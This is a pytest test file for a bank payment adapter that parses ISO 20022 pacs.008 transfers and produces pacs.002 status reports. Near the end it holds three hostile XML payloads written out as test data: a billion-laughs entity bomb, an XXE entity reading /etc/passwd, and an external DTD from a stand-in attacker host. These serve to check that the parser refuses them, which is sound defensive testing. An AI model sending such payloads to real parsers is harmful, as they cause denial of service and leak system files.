"""pacs.008.001.08 in, pacs.002.001.10 out: real messages, strict checks, and no XML attacks."""

from __future__ import annotations

import time
from datetime import UTC, datetime, timedelta

import defusedxml.ElementTree as SafeET
import pytest

from zaslon.adapters.iso20022 import NS, NS_002, build_pacs008, parse_pacs008, render_pacs002
from zaslon.core.types import Decision, Outcome, Reason, Transfer
from zaslon.errors import InvalidInput, PayloadTooLarge

TS = datetime(2026, 3, 2, 9, 15, 30, 250000, tzinfo=UTC)
IBAN_A = "BY13NBRB3600900000002Z00AB00"
IBAN_B = "DE89370400440532013000"

# A message as a bank would send it (hand-written, not from our builder): two transactions, one with
# InstrId/UETR, debtor account by IBAN, creditor by a proprietary id (a crypto wallet).
REAL = f"""<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="{NS}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <FIToFICstmrCdtTrf>
    <GrpHdr>
      <MsgId>AKBB-20260302-0001</MsgId>
      <CreDtTm>2026-03-02T12:15:30+03:00</CreDtTm>
      <NbOfTxs>2</NbOfTxs>
      <CtrlSum>1500.50</CtrlSum>
      <SttlmInf><SttlmMtd>CLRG</SttlmMtd></SttlmInf>
    </GrpHdr>
    <CdtTrfTxInf>
      <PmtId>
        <InstrId>INS-1</InstrId>
        <EndToEndId>E2E-1</EndToEndId>
        <TxId>TX-1</TxId>
        <UETR>86d7da8e-6e41-4466-b9bb-9b41d5814d5a</UETR>
      </PmtId>
      <IntrBkSttlmAmt Ccy="BYN">1250.50</IntrBkSttlmAmt>
      <IntrBkSttlmDt>2026-03-02</IntrBkSttlmDt>
      <AccptncDtTm>2026-03-02T09:10:00Z</AccptncDtTm>
      <ChrgBr>SLEV</ChrgBr>
      <Dbtr><Nm>Ivan Petrov</Nm></Dbtr>
      <DbtrAcct><Id><IBAN>{IBAN_A}</IBAN></Id></DbtrAcct>
      <DbtrAgt><FinInstnId><BICFI>AKBBBY2X</BICFI></FinInstnId></DbtrAgt>
      <CdtrAgt><FinInstnId><BICFI>DEUTDEFF</BICFI></FinInstnId></CdtrAgt>
      <Cdtr><Nm>Anna Schmidt</Nm></Cdtr>
      <CdtrAcct><Id><IBAN>{IBAN_B}</IBAN></Id></CdtrAcct>
    </CdtTrfTxInf>
    <CdtTrfTxInf>
      <PmtId><EndToEndId>E2E-2</EndToEndId></PmtId>
      <IntrBkSttlmAmt Ccy="BYN">250</IntrBkSttlmAmt>
      <ChrgBr>SHAR</ChrgBr>
      <Dbtr/>
      <DbtrAcct><Id><IBAN>{IBAN_A}</IBAN></Id></DbtrAcct>
      <DbtrAgt><FinInstnId/></DbtrAgt>
      <CdtrAgt><FinInstnId/></CdtrAgt>
      <Cdtr/>
      <CdtrAcct><Id><Othr><Id>wallet-7f3a</Id></Othr></Id></CdtrAcct>
    </CdtTrfTxInf>
  </FIToFICstmrCdtTrf>
</Document>"""


def test_real_message_parses_into_transfers() -> None:
    msg = parse_pacs008(REAL)
    assert msg.msg_id == "AKBB-20260302-0001"
    assert msg.created_at == datetime(2026, 3, 2, 9, 15, 30, tzinfo=UTC)
    a, b = msg.transfers
    assert (a.transfer_id, a.amount, a.currency, a.payer, a.payee) == ("TX-1", 125050, "BYN", IBAN_A, IBAN_B)
    assert (a.payer_bank, a.payee_bank, a.payee_country) == ("AKBBBY2X", "DEUTDEFF", "DE")
    assert a.ts == datetime(2026, 3, 2, 9, 10, tzinfo=UTC)  # AccptncDtTm
    assert (b.transfer_id, b.amount, b.payee, b.payee_country) == ("E2E-2", 25000, "wallet-7f3a", None)
    assert b.ts == msg.created_at  # no AccptncDtTm: the message's time
    assert msg.refs[0].uetr == "86d7da8e-6e41-4466-b9bb-9b41d5814d5a" and msg.refs[0].instr_id == "INS-1"


def test_builder_round_trips_and_is_valid_against_the_xsd() -> None:
    ts = [
        Transfer("T-1", TS, IBAN_A, IBAN_B, 12345, "EUR", payer_bank="AKBBBY2X", payee_bank="DEUTDEFF"),
        Transfer("T-2", TS + timedelta(seconds=1), IBAN_A, "wallet-1", 500, "JPY"),
        Transfer("T-3", TS, IBAN_B, IBAN_A, 1_234, "KWD"),
    ]
    msg = parse_pacs008(build_pacs008(ts, msg_id="M-1", created_at=TS))  # validate_xsd is on by default
    assert [t.amount for t in msg.transfers] == [12345, 500, 1234]
    assert [t.ts for t in msg.transfers] == [t.ts for t in ts]
    assert [t.currency for t in msg.transfers] == ["EUR", "JPY", "KWD"]


def _one(**edit: str) -> bytes:
    xml = build_pacs008([Transfer("T-1", TS, IBAN_A, IBAN_B, 10000, "BYN")], msg_id="M", created_at=TS).decode()
    for old, new in edit.items():
        assert old in xml, old
        xml = xml.replace(old, new)
    return xml.encode()


@pytest.mark.parametrize(
    ("edit", "field", "fragment"),
    [
        ({'Ccy="BYN"': 'Ccy="XYZ"'}, "CdtTrfTxInf[0].IntrBkSttlmAmt@Ccy", "not an ISO 4217"),
        ({">100.00<": ">-100.00<"}, "xsd", "IntrBkSttlmAmt"),
        ({">100.00<": ">0<"}, "CdtTrfTxInf[0].IntrBkSttlmAmt", "positive"),
        ({">100.00<": ">100.001<"}, "CdtTrfTxInf[0].IntrBkSttlmAmt", "decimal places"),
        ({"2026-03-02T09:15:30.250000Z</Accptnc": "2026-03-02T09:15:30</Accptnc"},
         "CdtTrfTxInf[0].AccptncDtTm", "no time zone"),
        ({"<CreDtTm>2026-03-02T09:15:30.250000Z": "<CreDtTm>2026-03-02T09:15:30.25"}, "GrpHdr.CreDtTm", "time zone"),
        ({IBAN_B: "DE89370400440532013001"}, "CdtTrfTxInf[0].CdtrAcct.Id.IBAN", "not a valid IBAN"),
        ({"<NbOfTxs>1<": "<NbOfTxs>2<"}, "GrpHdr.NbOfTxs", "holds 1"),
        ({"<CtrlSum>100.00<": "<CtrlSum>99.00<"}, "GrpHdr.CtrlSum", "differs"),
        ({"<TxId>T-1</TxId>": "", "<EndToEndId>T-1<": "<EndToEndId>NOTPROVIDED<"}, "CdtTrfTxInf[0].PmtId",
         "needs TxId"),
        ({f"<DbtrAcct><Id><IBAN>{IBAN_A}</IBAN></Id></DbtrAcct>": ""}, "CdtTrfTxInf[0].DbtrAcct", "both accounts"),
        ({"<ChrgBr>SLEV</ChrgBr>": "<ChrgBr>SLEV</ChrgBr><Surprise/>"}, "xsd", "Surprise"),
        ({"<SttlmMtd>CLRG</SttlmMtd>": "<SttlmMtd>XXXX</SttlmMtd>"}, "xsd", "SttlmMtd"),
    ],
)
def test_each_field_is_checked_strictly(edit: dict[str, str], field: str, fragment: str) -> None:
    with pytest.raises(InvalidInput) as exc:
        parse_pacs008(_one(**edit))
    assert exc.value.field == field
    assert fragment in exc.value.message


def test_duplicate_ids_in_one_message_are_refused() -> None:
    t = Transfer("T-1", TS, IBAN_A, IBAN_B, 100, "BYN")
    with pytest.raises(InvalidInput, match="duplicate transaction id 'T-1'"):
        parse_pacs008(build_pacs008([t, t], msg_id="M", created_at=TS))


def test_wrong_namespace_or_message_type_is_refused() -> None:
    other = _one(**{NS: "urn:iso:std:iso:20022:tech:xsd:pacs.008.001.02"})
    with pytest.raises(InvalidInput, match="namespace") as exc:
        parse_pacs008(other)
    assert exc.value.field == "xml"


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"><x>&lol9;</x></Document>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"><x>&xxe;</x></Document>"""

DTD_ONLY = b"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.example/x.dtd">
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"/>"""


@pytest.mark.parametrize("payload", [BOMB, XXE, DTD_ONLY], ids=["billion-laughs", "xxe", "external-dtd"])
def test_xml_attacks_are_refused_cheaply(payload: bytes) -> None:
    started = time.perf_counter()
    with pytest.raises(InvalidInput, match="unsafe XML") as exc:
        parse_pacs008(payload)
    assert exc.value.field == "xml"
    assert time.perf_counter() - started < 1.0  # nothing was expanded (a bomb would take minutes and GBs)


@pytest.mark.parametrize("payload", [b"", b"<Document", b"not xml at all", b"\xff\xfe<a/>", "<Ü>".encode("latin-1")])
def test_malformed_xml_is_refused(payload: bytes) -> None:
    with pytest.raises(InvalidInput, match="malformed XML") as exc:
        parse_pacs008(payload)
    assert exc.value.field == "xml"


def test_size_limit() -> None:
    with pytest.raises(PayloadTooLarge):
        parse_pacs008(_one(), max_bytes=100)
    ts = [Transfer(f"T-{i}", TS, IBAN_A, IBAN_B, 100, "BYN") for i in range(3)]
    with pytest.raises(InvalidInput, match="at most 2"):
        parse_pacs008(build_pacs008(ts, msg_id="M", created_at=TS), max_transactions=2)


def test_pacs002_status_report_quotes_the_original_and_maps_outcomes() -> None:
    msg = parse_pacs008(REAL)
    hold_until = TS + timedelta(days=2)
    decisions = [
        Decision("TX-1", Outcome.HOLD, 0.81, (Reason("rule:payee-reported", "payee reported & co"),), hold_until,
                 "v3", "m1"),
        Decision("E2E-2", Outcome.ALLOW, 0.01, (), None, "v3", "m1"),
    ]
    xml = render_pacs002(decisions, msg.refs, msg_id="R-1", original_msg_id=msg.msg_id, created_at=TS)
    doc = SafeET.fromstring(xml)
    n = {"p": NS_002}
    assert doc.tag == f"{{{NS_002}}}Document"
    rpt = doc.find("p:FIToFIPmtStsRpt", n)
    assert rpt is not None
    assert rpt.findtext("p:OrgnlGrpInfAndSts/p:OrgnlMsgId", namespaces=n) == "AKBB-20260302-0001"
    assert rpt.findtext("p:OrgnlGrpInfAndSts/p:OrgnlMsgNmId", namespaces=n) == "pacs.008.001.08"
    tx = rpt.findall("p:TxInfAndSts", n)
    assert [t.findtext("p:TxSts", namespaces=n) for t in tx] == ["PDNG", "ACCP"]
    assert tx[0].findtext("p:OrgnlEndToEndId", namespaces=n) == "E2E-1"
    assert tx[0].findtext("p:OrgnlTxId", namespaces=n) == "TX-1"
    assert tx[0].findtext("p:OrgnlUETR", namespaces=n) == "86d7da8e-6e41-4466-b9bb-9b41d5814d5a"
    assert tx[0].findtext("p:StsRsnInf/p:Rsn/p:Prtry", namespaces=n) == "HOLD"
    info = [e.text or "" for e in tx[0].findall("p:StsRsnInf/p:AddtlInf", n)]
    assert any("hold_until=2026-03-04T09:15:30.250000Z" in i for i in info)
    assert any("payee reported & co" in i for i in info) and all(len(i) <= 105 for i in info)
    block = Decision("TX-1", Outcome.BLOCK, 0.99, (), None, None, None)
    xml = render_pacs002([block], msg.refs, msg_id="R-2", original_msg_id="M", created_at=TS)
    tx0 = SafeET.fromstring(xml).find("p:FIToFIPmtStsRpt/p:TxInfAndSts", n)
    assert tx0 is not None
    assert tx0.findtext("p:TxSts", namespaces=n) == "RJCT"
    assert tx0.findtext("p:StsRsnInf/p:Rsn/p:Cd", namespaces=n) == "FRAD"
